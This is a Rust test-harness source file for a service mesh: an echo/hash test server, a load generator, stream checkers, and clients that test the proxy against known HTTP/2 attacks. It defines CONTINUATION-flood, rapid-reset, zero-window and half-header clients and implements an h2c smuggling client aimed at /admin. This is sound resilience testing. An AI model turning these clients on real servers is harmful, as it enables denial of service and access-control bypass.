//! The workload the harness runs inside pods: an HTTP/1.1 and HTTP/2 (prior knowledge) server
//! whose answers let a test prove what arrived, a fixed-rate load generator for the bench, and
//! the clients the L7 tests need (gRPC, raw bytes, HTTP/2 frame scripts and attackers, TLS probes).
//!
//! Server endpoints:
//! - `GET /` — 1024 bytes (the bench's 1 KB body);
//! - `GET /bytes/N` — N bytes of a fixed pattern (see `mesh_tests::pattern_byte`);
//! - `POST /sha256` — answers `<hex sha256 of the body> <length>`;
//! - `GET /count` — how many requests this server has answered;
//! - `GET /status/N` — answers status N;
//! - `GET /flaky` — 503 and 200 in turn, starting with 503;
//! - `GET /flaky-reset` — drops the connection unanswered and answers 200 in turn, starting
//!   with the drop;
//! - `GET /delay/MS` — answers after MS milliseconds;
//! - `/echo`, or any path ending in `/echo` (any method) — the request line as received, then its headers, one per line;
//! - `POST /control/fail`, `DELETE /control/fail` — answer every other request 500, or stop;
//! - `GET /upgrade` with `Upgrade: websocket` or `Upgrade: mesh-echo` — switches to that protocol
//!   (101) and echoes every byte;
//! - any request with `Upgrade: h2c` — switches to HTTP/2 (101) and serves every later request on
//!   the connection as HTTP/2, as Go's h2c handler, Jetty and Tomcat do (it does not insist on
//!   `HTTP2-Settings`, which a proxy drops as hop-by-hop);
//! - `POST /mesh.test.Echo/Unary` and `/mesh.test.Echo/Stream` — gRPC: echo each message, with
//!   `grpc-status: 0` in the trailers; the stream answers each message as it arrives.
//!
//! Every answer carries `x-served-by: <name>` (`serve --name`).
//!
//! `stream-serve` is a plain TCP server for opaque (L4) paths: it speaks first (`hello\n`,
//! and its client waits for that),
//! reads a line with the reply's length and then everything up to the client's FIN, answers
//! `<hex sha256> <length>\n` and that many pattern bytes, and closes. `stream` is its client,
//! and checks every byte.

use std::{
    convert::Infallible,
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use anyhow::Context;
use bytes::Bytes;
use clap::{Parser, Subcommand};
use http_body_util::{BodyExt, Full, combinators::BoxBody};
use hyper::{Method, Request, Response, body::Frame, service::service_fn};
use hyper_util::rt::{TokioExecutor, TokioIo};
use sha2::{Digest, Sha256};

#[derive(Debug, Parser)]
struct Cli {
    #[command(subcommand)]
    cmd: Cmd,
}

#[derive(Debug, Subcommand)]
enum Cmd {
    /// Serve HTTP/1.1 and HTTP/2 (prior knowledge) on 0.0.0.0:PORT.
    Serve {
        #[arg(long)]
        port: u16,
        /// Named in `x-served-by`.
        #[arg(long, default_value = "app")]
        name: String,
        /// Added before every answer.
        #[arg(long, default_value_t = 0)]
        delay_ms: u64,
    },
    /// Send GETs at a fixed rate and print latency percentiles as JSON. Latency is measured from
    /// each request's scheduled time, so a stall is counted against every request it delays.
    Load {
        #[arg(long)]
        addr: SocketAddr,
        #[arg(long, default_value = "/")]
        path: String,
        #[arg(long, default_value_t = 1000)]
        rate: u64,
        #[arg(long, default_value_t = 5)]
        seconds: u64,
        #[arg(long, default_value_t = 8)]
        connections: u64,
        /// Open a new connection for every request, and count failures (connect, reset,
        /// non-200) as errors instead of stopping: for tests that must see every request.
        #[arg(long)]
        reconnect: bool,
        /// Also report the percentiles of two interleaved halves: requests scheduled in even
        /// and in odd periods of this many milliseconds of the machine's monotonic clock, so
        /// another process can act in odd periods only (an A/B test within one run).
        #[arg(long)]
        split_ms: Option<u64>,
    },
    /// Opens COUNT connections, sends one GET on each (so each is a used keep-alive connection,
    /// with whatever buffers a proxy keeps for one), prints `ready COUNT` and holds them open
    /// until standard input closes.
    Hold {
        #[arg(long)]
        addr: SocketAddr,
        #[arg(long)]
        count: usize,
        /// Open them from this many threads at once.
        #[arg(long, default_value_t = 1)]
        parallel: usize,
        /// Send only the first half of a request head on each, and read nothing until standard
        /// input closes; then print JSON with how many were answered 408.
        #[arg(long)]
        half_head: bool,
    },
    /// A unary call and a bidirectional stream of MESSAGES to the gRPC echo service; prints JSON
    /// and fails unless every echo and trailer is right.
    Grpc {
        #[arg(long)]
        addr: SocketAddr,
        #[arg(long, default_value_t = 20)]
        messages: usize,
    },
    /// Writes the bytes of FILE, closes the sending side, and prints what comes back.
    Raw {
        #[arg(long)]
        addr: SocketAddr,
        #[arg(long)]
        input: std::path::PathBuf,
    },
    /// HTTP/2 CONTINUATION flood: one HEADERS frame without END_HEADERS, then up to FRAMES
    /// CONTINUATION frames of 16 KiB each that never end the block; prints JSON with how many
    /// went out before the server stopped it, and its GOAWAY, if any.
    ContinuationFlood {
        #[arg(long)]
        addr: SocketAddr,
        #[arg(long, default_value_t = 10_000)]
        frames: u32,
    },
    /// Asks `/upgrade` to switch to the echo protocol, then sends MESSAGES lines, each after the
    /// previous came back; prints JSON with the status and the lines echoed.
    Upgrade {
        #[arg(long)]
        addr: SocketAddr,
        #[arg(long, default_value_t = 10)]
        messages: usize,
        /// The `Upgrade` token asked for.
        #[arg(long, default_value = "websocket")]
        protocol: String,
    },
    /// The h2c smuggling attempt: `Upgrade: h2c` on a harmless request, then `GET PATH` over
    /// HTTP/2 if the connection switched; prints JSON.
    H2cUpgrade {
        #[arg(long)]
        addr: SocketAddr,
        #[arg(long, default_value = "/admin")]
        path: String,
    },
    /// Serve the `stream` protocol (see the module doc) on 0.0.0.0:PORT.
    StreamServe {
        #[arg(long)]
        port: u16,
    },
    /// Wait for a `stream-serve`r's greeting, send SEND pattern bytes (spread over SECONDS if
    /// given) and close the sending side; ask for REPLY bytes back. Fails unless the banner, the
    /// hash of what was sent and every byte of the reply are right; prints JSON with the bytes
    /// sent and received, and how many blocking reads ended with EAGAIN (`would_block`).
    Stream {
        #[arg(long)]
        addr: SocketAddr,
        #[arg(long)]
        send: u64,
        #[arg(long)]
        reply: u64,
        #[arg(long)]
        seconds: Option<u64>,
    },
    /// Sends the HTTP/2 frames of a JSON script (after the preface and an empty SETTINGS), then
    /// reads for `quiet_ms` of silence; prints JSON with the GOAWAY code, the RST_STREAMs
    /// (stream, code), the streams answered with HEADERS and whether the server closed.
    H2Script {
        #[arg(long)]
        addr: SocketAddr,
        #[arg(long)]
        script: std::path::PathBuf,
    },
    /// A TLS handshake with 15008's listener, as a client that is not a workload: `1.2` offers
    /// only TLS 1.2, `1.3` offers TLS 1.3 with no client certificate. Prints JSON with how the
    /// handshake ended and any bytes the server sent after it.
    TlsProbe {
        #[arg(long)]
        addr: SocketAddr,
        #[arg(long)]
        version: String,
    },
    /// COUNT `stream`s at once, each sending SEND bytes paced over SECONDS (long-lived
    /// connections), each checked as `stream` checks one; prints JSON with how many passed and
    /// why the others failed.
    Streams {
        #[arg(long)]
        addr: SocketAddr,
        #[arg(long)]
        count: usize,
        #[arg(long)]
        send: u64,
        #[arg(long)]
        reply: u64,
        #[arg(long)]
        seconds: u64,
    },
    /// HTTP/2 with an initial stream window of 0 that never grows: asks for REQUESTS responses
    /// of SIZE bytes and reads none of their data. It waits until every stream is answered or
    /// refused (at most WAIT_MS), then holds the connection until HOLD_MS pass with no frame,
    /// then closes; prints JSON with the streams opened and those the server refused.
    ZeroWindow {
        #[arg(long)]
        addr: SocketAddr,
        #[arg(long, default_value_t = 1000)]
        requests: u32,
        #[arg(long, default_value_t = 1 << 20)]
        size: u64,
        #[arg(long, default_value_t = 3000)]
        hold_ms: u64,
        #[arg(long, default_value_t = 30_000)]
        wait_ms: u64,
    },
    /// HTTP/2 rapid reset: opens STREAMS streams, cancelling each at once; prints JSON with the
    /// GOAWAY the server sent, if any.
    RapidReset {
        #[arg(long)]
        addr: SocketAddr,
        #[arg(long, default_value_t = 10_000)]
        streams: u32,
    },
}

type Body = BoxBody<Bytes, Infallible>;

fn full(b: impl Into<Bytes>) -> Body {
    Full::new(b.into()).boxed()
}

fn pattern(len: u64) -> Body {
    const CHUNK: u64 = 64 * 1024;
    pattern_body(len, CHUNK).boxed()
}

/// A body of `len` pattern bytes produced in chunks, so large bodies need no large buffer.
fn pattern_body(
    len: u64,
    chunk: u64,
) -> impl hyper::body::Body<Data = Bytes, Error = Infallible> + Send + 'static {
    struct Pat {
        off: u64,
        len: u64,
        chunk: u64,
    }
    impl hyper::body::Body for Pat {
        type Data = Bytes;
        type Error = Infallible;
        fn poll_frame(
            mut self: std::pin::Pin<&mut Self>,
            _: &mut std::task::Context<'_>,
        ) -> std::task::Poll<Option<Result<Frame<Bytes>, Infallible>>> {
            if self.off >= self.len {
                return std::task::Poll::Ready(None);
            }
            let n = self.chunk.min(self.len - self.off);
            let start = self.off;
            let v: Vec<u8> = (start..start + n).map(mesh_tests::pattern_byte).collect();
            self.off += n;
            std::task::Poll::Ready(Some(Ok(Frame::data(Bytes::from(v)))))
        }
        fn size_hint(&self) -> hyper::body::SizeHint {
            hyper::body::SizeHint::with_exact(self.len - self.off)
        }
    }
    Pat { off: 0, len, chunk }
}

/// The server's state.
struct App {
    name: String,
    delay: Duration,
    count: AtomicU64,
    flaky: AtomicU64,
    fail: std::sync::atomic::AtomicBool,
}

fn status(code: u16, msg: &str) -> Response<Body> {
    let mut r = Response::new(full(format!("{msg}\n")));
    *r.status_mut() = hyper::StatusCode::from_u16(code).unwrap_or(hyper::StatusCode::BAD_REQUEST);
    r
}

async fn handle(
    req: Request<hyper::body::Incoming>,
    app: Arc<App>,
) -> Result<Response<Body>, std::io::Error> {
    let path = req.uri().path().to_string();
    if path == "/flaky-reset" && app.flaky.fetch_add(1, Ordering::Relaxed).is_multiple_of(2) {
        // An error from the service makes hyper close the connection without an answer.
        app.count.fetch_add(1, Ordering::Relaxed);
        return Err(std::io::Error::other("flaky-reset: dropping this one"));
    }
    let control = path == "/count" || path.starts_with("/control/");
    // `/count` and `/control` are not counted, so asking does not change the answer.
    if !control {
        app.count.fetch_add(1, Ordering::Relaxed);
        if !app.delay.is_zero() {
            tokio::time::sleep(app.delay).await;
        }
    }
    let h2c = req
        .headers()
        .get(hyper::header::UPGRADE)
        .and_then(|v| v.to_str().ok())
        .is_some_and(|v| v.split(',').any(|t| t.trim().eq_ignore_ascii_case("h2c")));
    let mut resp = if h2c {
        switch_to_h2c(req, app.clone())
    } else if !control && app.fail.load(Ordering::Relaxed) {
        status(500, "failing on request")
    } else {
        route(req, &app, &path).await
    };
    if let Ok(v) = hyper::header::HeaderValue::from_str(&app.name) {
        resp.headers_mut().insert("x-served-by", v);
    }
    Ok(resp)
}

async fn route(req: Request<hyper::body::Incoming>, app: &App, path: &str) -> Response<Body> {
    match (req.method().clone(), path) {
        (Method::GET, "/") => Response::new(full(vec![b'x'; 1024])),
        (Method::GET, "/upgrade") => switch_to_echo(req),
        (Method::GET, "/count") => {
            Response::new(full(app.count.load(Ordering::Relaxed).to_string()))
        }
        (Method::POST, "/control/fail") => {
            app.fail.store(true, Ordering::Relaxed);
            status(200, "failing")
        }
        (Method::DELETE, "/control/fail") => {
            app.fail.store(false, Ordering::Relaxed);
            status(200, "healthy")
        }
        (Method::GET, "/flaky-reset") => status(200, "flaky-reset: fine this time"),
        (Method::GET, "/flaky") => {
            if app.flaky.fetch_add(1, Ordering::Relaxed).is_multiple_of(2) {
                status(503, "flaky: failing this time")
            } else {
                status(200, "flaky: fine this time")
            }
        }
        (Method::GET, p) if p.starts_with("/status/") => match p["/status/".len()..].parse() {
            Ok(n) => status(n, "as asked"),
            Err(_) => bad("status must be a number"),
        },
        (Method::GET, p) if p.starts_with("/delay/") => match p["/delay/".len()..].parse() {
            Ok(ms) => {
                tokio::time::sleep(Duration::from_millis(ms)).await;
                status(200, "delayed")
            }
            Err(_) => bad("delay must be milliseconds"),
        },
        (_, p) if p == "/echo" || p.ends_with("/echo") => {
            let mut out = format!("{} {}\n", req.method(), req.uri());
            for (k, v) in req.headers() {
                out.push_str(&format!("{k}: {}\n", String::from_utf8_lossy(v.as_bytes())));
            }
            Response::new(full(out))
        }
        (Method::GET, p) if p.starts_with("/bytes/") => match p["/bytes/".len()..].parse() {
            Ok(n) => Response::new(pattern(n)),
            Err(_) => bad("length must be a number"),
        },
        (Method::POST, "/sha256") => {
            let mut body = req.into_body();
            let mut h = Sha256::new();
            let mut n: u64 = 0;
            while let Some(frame) = body.frame().await {
                match frame {
                    Ok(f) => {
                        if let Some(d) = f.data_ref() {
                            h.update(d);
                            n += d.len() as u64;
                        }
                    }
                    Err(e) => return bad(&format!("body: {e}")),
                }
            }
            Response::new(full(format!("{} {n}", hex::encode(h.finalize()))))
        }
        (Method::POST, "/mesh.test.Echo/Unary") => grpc::unary(req).await,
        (Method::POST, "/mesh.test.Echo/Stream") => grpc::stream(req),
        _ => status(404, "not found"),
    }
}

/// Answers 101 and echoes the upgraded connection's bytes until it closes.
fn switch_to_echo(mut req: Request<hyper::body::Incoming>) -> Response<Body> {
    let Some(proto) = req
        .headers()
        .get(hyper::header::UPGRADE)
        .filter(|v| {
            v.as_bytes().eq_ignore_ascii_case(b"mesh-echo")
                || v.as_bytes().eq_ignore_ascii_case(b"websocket")
        })
        .cloned()
    else {
        return status(426, "upgrade to websocket or mesh-echo");
    };
    let on = hyper::upgrade::on(&mut req);
    tokio::spawn(async move {
        if let Ok(up) = on.await {
            let (mut r, mut w) = tokio::io::split(TokioIo::new(up));
            let _ = tokio::io::copy(&mut r, &mut w).await;
        }
    });
    let mut r = status(101, "");
    r.headers_mut().insert(hyper::header::UPGRADE, proto);
    r.headers_mut().insert(
        hyper::header::CONNECTION,
        hyper::header::HeaderValue::from_static("upgrade"),
    );
    *r.body_mut() = full(Bytes::new());
    r
}

/// Answers 101 to an h2c upgrade and serves HTTP/2 on the connection from then on.
fn switch_to_h2c(mut req: Request<hyper::body::Incoming>, app: Arc<App>) -> Response<Body> {
    let on = hyper::upgrade::on(&mut req);
    tokio::spawn(async move {
        if let Ok(up) = on.await {
            let svc = service_fn(move |req| handle(req, app.clone()));
            let _ = hyper::server::conn::http2::Builder::new(TokioExecutor::new())
                .serve_connection(up, svc)
                .await;
        }
    });
    let mut r = status(101, "");
    r.headers_mut().insert(
        hyper::header::UPGRADE,
        hyper::header::HeaderValue::from_static("h2c"),
    );
    r.headers_mut().insert(
        hyper::header::CONNECTION,
        hyper::header::HeaderValue::from_static("upgrade"),
    );
    *r.body_mut() = full(Bytes::new());
    r
}

/// The h2c smuggling client: asks for `Upgrade: h2c` on a harmless `GET /echo` and, if the answer
/// is 101, sends `GET PATH` as HTTP/2 on the switched connection. Prints JSON with the upgrade's
/// status and head, the echoed request when it did not switch, and, when it switched, the
/// tunnelled request's status.
async fn h2c_upgrade(addr: SocketAddr, path: &str) -> anyhow::Result<()> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut s = tokio::time::timeout(Duration::from_secs(5), tokio::net::TcpStream::connect(addr))
        .await??;
    s.write_all(
        format!("GET /echo HTTP/1.1\r\nHost: {addr}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n")
            .as_bytes(),
    )
    .await?;
    // Byte by byte, so nothing after the head is taken from the HTTP/2 side.
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        let mut b = [0u8; 1];
        match tokio::time::timeout(Duration::from_secs(5), s.read(&mut b)).await?? {
            0 => break,
            _ => head.push(b[0]),
        }
    }
    let head = String::from_utf8_lossy(&head).to_string();
    let status: u16 = head
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let mut tunnelled = serde_json::Value::Null;
    let mut body = String::new();
    if status != 101 {
        // `/echo` answers with the request as the server saw it.
        let len: usize = head
            .lines()
            .find_map(|l| {
                let (k, v) = l.split_once(':')?;
                k.eq_ignore_ascii_case("content-length")
                    .then(|| v.trim().parse().ok())?
            })
            .unwrap_or(0);
        let mut buf = vec![0u8; len];
        tokio::time::timeout(Duration::from_secs(5), s.read_exact(&mut buf)).await??;
        body = String::from_utf8_lossy(&buf).to_string();
    } else {
        let (mut send, conn) =
            hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(s)).await?;
        tokio::spawn(conn);
        let req = Request::get(format!("http://{addr}{path}"))
            .body(Full::new(Bytes::new()))
            .context("request")?;
        let resp = tokio::time::timeout(Duration::from_secs(5), send.send_request(req)).await??;
        tunnelled = serde_json::json!({
            "status": resp.status().as_u16(),
            "served_by": resp.headers().get("x-served-by").and_then(|v| v.to_str().ok()),
        });
    }
    println!(
        "{}",
        serde_json::json!({"status": status, "head": head, "body": body, "tunnelled": tunnelled})
    );
    Ok(())
}

/// The client side of `/upgrade`.
fn upgrade(addr: SocketAddr, messages: usize, protocol: &str) -> anyhow::Result<()> {
    use std::io::{BufRead, Write};
    let s = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
    s.set_read_timeout(Some(Duration::from_secs(5)))?;
    let mut w = s.try_clone()?;
    let mut r = std::io::BufReader::new(s);
    w.write_all(
        format!("GET /upgrade HTTP/1.1\r\nHost: {addr}\r\nConnection: Upgrade\r\nUpgrade: {protocol}\r\n\r\n")
            .as_bytes(),
    )?;
    let mut head = String::new();
    loop {
        let mut line = String::new();
        if r.read_line(&mut line)? == 0 || line == "\r\n" {
            break;
        }
        head.push_str(&line);
    }
    let status: u16 = head
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let mut echoed = 0;
    if status == 101 {
        for i in 0..messages {
            let msg = format!("message {i}\n");
            w.write_all(msg.as_bytes())?;
            let mut back = String::new();
            r.read_line(&mut back)?;
            if back != msg {
                anyhow::bail!("sent {msg:?}, got {back:?} back");
            }
            echoed += 1;
        }
    }
    println!(
        "{}",
        serde_json::json!({"status": status, "echoed": echoed, "head": head})
    );
    Ok(())
}

fn bad(msg: &str) -> Response<Body> {
    status(400, msg)
}

async fn serve(port: u16, name: String, delay_ms: u64) -> anyhow::Result<()> {
    let listener = tokio::net::TcpListener::bind(("0.0.0.0", port))
        .await
        .with_context(|| format!("bind 0.0.0.0:{port}"))?;
    let app = Arc::new(App {
        name,
        delay: Duration::from_millis(delay_ms),
        count: AtomicU64::new(0),
        flaky: AtomicU64::new(0),
        fail: std::sync::atomic::AtomicBool::new(false),
    });
    loop {
        let (stream, _) = listener.accept().await?;
        let _ = stream.set_nodelay(true);
        let app = app.clone();
        tokio::spawn(async move {
            let svc = service_fn(move |req| handle(req, app.clone()));
            let mut builder = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new());
            // Above the mesh's own 60 KiB, so the tests see the mesh's limit, not this one's.
            builder.http2().max_header_list_size(128 * 1024);
            builder.http1().max_buf_size(256 * 1024);
            let _ = builder
                .serve_connection_with_upgrades(TokioIo::new(stream), svc)
                .await;
        });
    }
}

/// Reads one HTTP/1.1 response with a Content-Length body; returns whether it was a 2xx.
fn read_response(r: &mut std::io::BufReader<std::net::TcpStream>) -> anyhow::Result<bool> {
    use std::io::{BufRead, Read};
    let mut line = String::new();
    r.read_line(&mut line)?;
    let ok = line
        .split_whitespace()
        .nth(1)
        .is_some_and(|c| c.starts_with('2'));
    let mut len = 0usize;
    loop {
        line.clear();
        if r.read_line(&mut line)? == 0 {
            anyhow::bail!("connection closed mid-response");
        }
        let l = line.trim_end();
        if l.is_empty() {
            break;
        }
        if let Some((k, v)) = l.split_once(':')
            && k.eq_ignore_ascii_case("content-length")
        {
            len = v.trim().parse()?;
        }
    }
    let mut body = vec![0; len];
    r.read_exact(&mut body)?;
    Ok(ok)
}

/// One load thread's results: (latency µs, index of its `--split-ms` period) per answered
/// request, and how many failed.
type Timings = (Vec<(u64, u64)>, u64);

/// Fixed-rate load on plain threads: `thread::sleep` wakes within tens of microseconds, where
/// tokio's timer wheel would add up to a millisecond to every measurement.
fn load(
    addr: SocketAddr,
    path: &str,
    rate: u64,
    seconds: u64,
    connections: u64,
    reconnect: bool,
    split_ms: Option<u64>,
) -> anyhow::Result<()> {
    use std::io::Write;
    let total = rate * seconds;
    let start = Instant::now() + Duration::from_millis(50);
    // The same instant on the monotonic clock every process on the machine reads.
    let start_mono = mesh_tests::monotonic_ns() + 50_000_000;
    let period = |i: u64| {
        split_ms.map_or(0, |ms| {
            (start_mono + i * 1_000_000_000 / rate) / (ms * 1_000_000)
        })
    };
    let request = format!("GET {path} HTTP/1.1\r\nHost: {addr}\r\n\r\n");
    let results: Vec<anyhow::Result<Timings>> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..connections)
            .map(|w| {
                let request = request.as_bytes();
                s.spawn(move || -> anyhow::Result<Timings> {
                    let open = || -> anyhow::Result<_> {
                        let stream =
                            std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
                        stream.set_nodelay(true)?;
                        stream.set_read_timeout(Some(Duration::from_secs(10)))?;
                        Ok((stream.try_clone()?, std::io::BufReader::new(stream)))
                    };
                    let mut conn = None;
                    let (mut lat, mut errors) = (Vec::new(), 0u64);
                    let mut i = w;
                    while i < total {
                        let due = start + Duration::from_nanos(i * 1_000_000_000 / rate);
                        if let Some(wait) = due.checked_duration_since(Instant::now()) {
                            std::thread::sleep(wait);
                        }
                        let scheduled = i;
                        i += connections;
                        // Timed from the schedule, so a stall counts against every request it
                        // delays (no coordinated omission).
                        let result = (|| -> anyhow::Result<bool> {
                            if reconnect || conn.is_none() {
                                conn = Some(open()?);
                            }
                            let Some((writer, reader)) = conn.as_mut() else {
                                anyhow::bail!("no connection");
                            };
                            writer.write_all(request)?;
                            read_response(reader)
                        })();
                        match result {
                            Ok(true) => {
                                lat.push((due.elapsed().as_micros() as u64, period(scheduled)));
                            }
                            Ok(false) => errors += 1,
                            Err(e) if reconnect => {
                                errors += 1;
                                eprintln!("request failed: {e}");
                            }
                            Err(e) => return Err(e),
                        }
                    }
                    Ok((lat, errors))
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| {
                h.join()
                    .unwrap_or_else(|_| Err(anyhow::anyhow!("load thread panicked")))
            })
            .collect()
    });
    let mut all = Vec::new();
    let mut errors = 0;
    for r in results {
        let (l, e) = r?;
        all.extend(l);
        errors += e;
    }
    let summary = |mut v: Vec<u64>| {
        v.sort_unstable();
        let pct = |p: f64| {
            v.get(((v.len() as f64 * p) as usize).min(v.len().saturating_sub(1)))
                .copied()
                .unwrap_or(0)
        };
        serde_json::json!({
            "requests": v.len(),
            "p50_us": pct(0.50),
            "p99_us": pct(0.99),
            "p999_us": pct(0.999),
        })
    };
    let mut out = summary(all.iter().map(|l| l.0).collect());
    out["errors"] = errors.into();
    if split_ms.is_some() {
        // Even and odd periods apart, then every period on its own (a pair of neighbours
        // compared period by period is immune to a burst of noise that hits only one pair).
        out["split"] = (0..2)
            .map(|ph| summary(all.iter().filter(|l| l.1 % 2 == ph).map(|l| l.0).collect()))
            .collect();
        let mut periods = std::collections::BTreeMap::<u64, Vec<u64>>::new();
        for &(lat, p) in &all {
            periods.entry(p).or_default().push(lat);
        }
        out["periods"] = periods
            .into_iter()
            .map(|(p, v)| {
                let mut s = summary(v);
                s["index"] = p.into();
                s
            })
            .collect();
    }
    println!("{out}");
    Ok(())
}

const STREAM_BANNER: &[u8] = b"hello\n";

fn stream_serve(port: u16) -> anyhow::Result<()> {
    let listener = std::net::TcpListener::bind(("0.0.0.0", port))?;
    for conn in listener.incoming() {
        let Ok(conn) = conn else { continue };
        std::thread::spawn(move || {
            if let Err(e) = stream_answer(conn) {
                eprintln!("stream-serve: {e:#}");
            }
        });
    }
    Ok(())
}

fn stream_answer(mut conn: std::net::TcpStream) -> anyhow::Result<()> {
    use std::io::{BufRead, Read, Write};
    conn.write_all(STREAM_BANNER)?;
    let mut reader = std::io::BufReader::with_capacity(1 << 16, conn.try_clone()?);
    let mut line = String::new();
    reader.read_line(&mut line)?;
    let reply: u64 = line.trim().parse().context("reply length line")?;
    let mut hash = Sha256::new();
    let mut len = 0u64;
    let mut buf = vec![0u8; 1 << 16];
    loop {
        let n = reader.read(&mut buf)?;
        if n == 0 {
            break;
        }
        hash.update(&buf[..n]);
        len += n as u64;
    }
    conn.write_all(format!("{} {len}\n", hex::encode(hash.finalize())).as_bytes())?;
    write_pattern(&mut conn, reply)?;
    Ok(())
}

fn write_pattern(w: &mut impl std::io::Write, len: u64) -> std::io::Result<()> {
    let mut buf = vec![0u8; 1 << 16];
    let mut at = 0u64;
    while at < len {
        let n = (len - at).min(buf.len() as u64) as usize;
        for (i, b) in buf[..n].iter_mut().enumerate() {
            *b = mesh_tests::pattern_byte(at + i as u64);
        }
        w.write_all(&buf[..n])?;
        at += n as u64;
    }
    Ok(())
}

/// Many long-lived `stream`s at once.
fn streams(
    addr: SocketAddr,
    count: usize,
    send: u64,
    reply: u64,
    over: Duration,
) -> anyhow::Result<()> {
    let results: Vec<anyhow::Result<serde_json::Value>> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..count)
            .map(|_| s.spawn(move || stream(addr, send, reply, Some(over))))
            .collect();
        handles
            .into_iter()
            .map(|h| {
                h.join()
                    .unwrap_or_else(|_| Err(anyhow::anyhow!("stream thread panicked")))
            })
            .collect()
    });
    let errors: Vec<String> = results
        .iter()
        .filter_map(|r| r.as_ref().err().map(|e| format!("{e:#}")))
        .collect();
    println!(
        "{}",
        serde_json::json!({"ok": count - errors.len(), "failed": errors.len(), "errors": errors})
    );
    Ok(())
}

/// Writes at most `chunk` bytes per `every`: spreads a stream over time.
struct Paced<W> {
    w: W,
    chunk: usize,
    every: Duration,
    since: usize,
}

impl<W: std::io::Write> std::io::Write for Paced<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        if self.since >= self.chunk {
            std::thread::sleep(self.every);
            self.since = 0;
        }
        let n = self
            .w
            .write(&buf[..buf.len().min(self.chunk - self.since)])?;
        self.since += n;
        Ok(n)
    }
    fn flush(&mut self) -> std::io::Result<()> {
        self.w.flush()
    }
}

/// One checked stream; with `pace`, its sending is spread over that long (in 20 steps a second).
fn stream(
    addr: SocketAddr,
    send: u64,
    reply: u64,
    pace: Option<Duration>,
) -> anyhow::Result<serde_json::Value> {
    use std::io::{Read, Write};
    let mut conn = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
    // The reply comes after the last byte sent: a paced stream waits that much longer, and a
    // big one a second more per 4 MiB (an emulated guest moves a GiB in minutes).
    let patience = Duration::from_secs(30 + (send >> 22)) + pace.unwrap_or_default();
    conn.set_read_timeout(Some(patience))?;
    let header = format!("{reply}\n");
    // The server speaks first, and we wait for it: a proxy that held the greeting back would
    // stall us here.
    let mut banner = vec![0u8; STREAM_BANNER.len()];
    conn.read_exact(&mut banner)
        .context("the server's greeting")?;
    anyhow::ensure!(banner == STREAM_BANNER, "greeting was {banner:?}");
    // Read concurrently: a server that answers while we still send must not deadlock us.
    let mut rx = conn.try_clone()?;
    let reader = std::thread::spawn(move || -> std::io::Result<(Vec<u8>, u64)> {
        let mut got = Vec::new();
        let mut buf = vec![0u8; 1 << 16];
        let mut progress = std::time::Instant::now();
        let mut would_block = 0u64;
        loop {
            match rx.read(&mut buf) {
                Ok(0) => return Ok((got, would_block)),
                Ok(n) => {
                    got.extend_from_slice(&buf[..n]);
                    progress = std::time::Instant::now();
                }
                // A socket in a sockmap (the mesh's opt-in loopback bypass) can end a blocking
                // read with EAGAIN after a wake-up that brought nothing (Linux 6.18). An
                // application on non-blocking sockets would poll again; so does this one,
                // until the read timeout has really passed.
                // Counted: a blocking reader that is not this patient would have failed.
                Err(e)
                    if e.kind() == std::io::ErrorKind::WouldBlock
                        && progress.elapsed() < patience =>
                {
                    would_block += 1;
                }
                Err(e) => return Err(e),
            }
        }
    });
    conn.write_all(header.as_bytes())?;
    match pace {
        Some(over) => {
            let steps = (over.as_millis() as u64 / 50).max(1);
            let mut paced = Paced {
                w: &mut conn,
                chunk: usize::try_from(send.div_ceil(steps))
                    .unwrap_or(usize::MAX)
                    .max(1),
                every: Duration::from_millis(50),
                since: 0,
            };
            write_pattern(&mut paced, send)?;
        }
        None => write_pattern(&mut conn, send)?,
    }
    conn.shutdown(std::net::Shutdown::Write)?;
    let (got, would_block) = reader
        .join()
        .map_err(|_| anyhow::anyhow!("reader panicked"))??;
    let sent_hash = {
        let mut h = Sha256::new();
        let mut w = HashWriter(&mut h);
        write_pattern(&mut w, send)?;
        hex::encode(h.finalize())
    };
    let expect_head = format!("{sent_hash} {send}\n");
    let head = got.get(..expect_head.len()).unwrap_or(&got);
    anyhow::ensure!(
        head == expect_head.as_bytes(),
        "expected {expect_head:?} first, got {:?} ({} bytes in all)",
        String::from_utf8_lossy(&head[..head.len().min(120)]),
        got.len()
    );
    let body = &got[expect_head.len()..];
    anyhow::ensure!(
        body.len() as u64 == reply,
        "reply has {} bytes, asked for {reply}",
        body.len()
    );
    if let Some(i) = (0..reply).find(|&i| body[i as usize] != mesh_tests::pattern_byte(i)) {
        anyhow::bail!("reply byte {i} differs from the pattern");
    }
    Ok(
        serde_json::json!({"sent": header.len() as u64 + send, "received": banner.len() + got.len(), "would_block": would_block}),
    )
}

/// Feeds writes into a hash.
struct HashWriter<'a>(&'a mut Sha256);

impl std::io::Write for HashWriter<'_> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.update(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn hold(addr: SocketAddr, count: usize, parallel: usize, half_head: bool) -> anyhow::Result<()> {
    use std::io::{Read, Write};
    let have = mesh_tests::raise_fd_limit();
    if have < count as u64 + 64 {
        anyhow::bail!(
            "the open-file limit is {have}, too low to hold {count} connections: raise it (ulimit -Hn)"
        );
    }
    let request = format!("GET / HTTP/1.1\r\nHost: {addr}\r\n\r\n");
    // A connection the proxy refused (a reset: it is at a connection cap) is counted, not fatal,
    // when holding half heads: refusing some is what an overload test expects.
